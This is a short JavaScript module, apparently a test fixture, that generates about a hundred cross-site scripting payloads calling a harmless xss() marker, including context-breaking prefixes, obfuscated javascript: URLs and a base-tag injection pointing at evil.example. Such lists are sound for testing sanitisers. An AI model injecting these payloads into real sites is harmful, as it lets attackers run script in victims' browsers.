// 100 values that would run `xss()` if a page let them out of their place.
const calls = [
  '<script>xss()</script>',
  '<img src=x onerror=xss()>',
  '<svg onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  '<details open ontoggle=xss()>',
  '<body onload=xss()>',
  '<input autofocus onfocus=xss()>',
  '<a href="javascript:xss()">x</a>',
  '<math><mtext><img src=x onerror=xss()></mtext></math>',
];
// What may end the place that the value is in.
const ends = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', '</option></select>', '`', '{{/v}}'];
// Values that need no markup.
const others = [
  ...[
    'javascript:xss()',
    'JaVaScRiPt:xss()',
    ' javascript:xss()',
    'java\tscript:xss()',
    'java\nscript:xss()',
    '\u0001javascript:xss()',
    'javascript&colon;xss()',
    'javascript&#58;xss()',
    'javascript://%0axss()',
    'data:text/html,<script>parent.xss()</script>',
    'vbscript:xss()',
  ],
  ...[
    '" onmouseover=xss() onfocus=xss() autofocus x="',
    "' onfocus=xss() autofocus x='",
    'x onerror=xss()',
    '" style="x:expression(xss())',
    '"><base href="//evil.example/">',
    '\u2028xss()\u2029',
    '\\"};xss();//',
    '\\u003cscript\\u003exss()\\u003c/script\\u003e',
    '%3Cscript%3Exss()%3C/script%3E',
  ],
];

export const hostileValues = [...ends.flatMap((end) => calls.map((call) => end + call)).slice(0, 80), ...others];
